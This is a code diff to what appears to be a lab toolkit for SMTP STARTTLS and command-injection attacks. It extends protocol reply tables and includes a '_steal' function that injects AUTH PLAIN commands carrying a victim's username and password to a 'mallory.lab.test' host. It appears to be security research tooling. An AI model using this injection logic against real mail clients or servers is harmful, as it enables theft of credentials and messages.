@@ -10,8 +10,8 @@ from labkit.dialects.framing.coded_lines import CHUNK, CREDENTIAL, TEXT, CodedLi
 from labkit.dialects.reader import WAIT, Buffer, text_end
 from labkit.dialects.smtp_words import CAPABILITIES, COMMANDS, REPLIES, explain
 from labkit.dialects.writing import (
-    Account,
     Capabilities,
+    Credentials,
     Injected,
     Writer,
     lines,
@@ -28,14 +28,24 @@ _BEHIND_CODE = b" \r\n-"
 _BDAT = re.compile(rb"BDAT +(\d{1,12})", re.IGNORECASE)
 
 
+_UPGRADES = ("STARTTLS", "X-ANONYMOUSTLS")
+_LOGINS = ("AUTH", "X-EXPS")
 LINES = CodedLines(
     verbs={verb.encode(): verb for verb in COMMANDS},
     greetings={"220", "421", "554"},  # RFC 5321 §3.1, §3.8
     only_greetings={"220"},
-    go_aheads={"STARTTLS": "220"},
-    after_command={"STARTTLS": WAIT, "AUTH": WAIT, "DATA": WAIT, "BDAT": CHUNK},
+    answers={
+        "220": {*_UPGRADES},
+        "221": {"QUIT"},
+        "235": {*_LOGINS, CREDENTIAL},
+        "334": {*_LOGINS, CREDENTIAL},
+        "354": {"DATA"},
+        "454": {*_UPGRADES, *_LOGINS, CREDENTIAL},
+    },
+    go_aheads=dict.fromkeys(_UPGRADES, "220"),
+    after_command={**dict.fromkeys(_UPGRADES, WAIT), "AUTH": WAIT, "X-EXPS": WAIT, "DATA": WAIT, "BDAT": CHUNK},
     after_reply={"354": TEXT, "334": CREDENTIAL},
-    after_lost_reply={"DATA": TEXT},
+    after_lost_reply={"DATA": TEXT, "AUTH": CREDENTIAL, CREDENTIAL: CREDENTIAL},
 )
 
 
@@ -68,7 +78,7 @@ def _recognises(server: bytes, client: bytes) -> bool:
     return bool(_GREETING.match(server) or (_HELLO.match(client) and _GREETING_CODE.match(server)))
 
 
-def _steal(tag: str, account: Account, _: int) -> bytes:
+def _steal(tag: str, account: Credentials, _: int) -> bytes:
     """Each command earns just the reply that the victim waits for; behind DATA its own words are the message."""
     commands = ("EHLO mallory.lab.test", f"AUTH PLAIN {plain(account.user, account.password)}")
     envelope = (f"MAIL FROM:<{account.address}>", f"RCPT TO:<{account.address}>", "DATA")
@@ -115,6 +125,7 @@ SMTP = Dialect(
     ask="EHLO",
     token="STARTTLS",
     upgrade="STARTTLS",
+    other_upgrades=("X-ANONYMOUSTLS",),
     go_ahead="220",
     messages=lambda data: [(0, text_end(data))],
     sasl=r"AUTH +(?P<mechanism>\S+)(?: +(?P<initial>\S+))?",
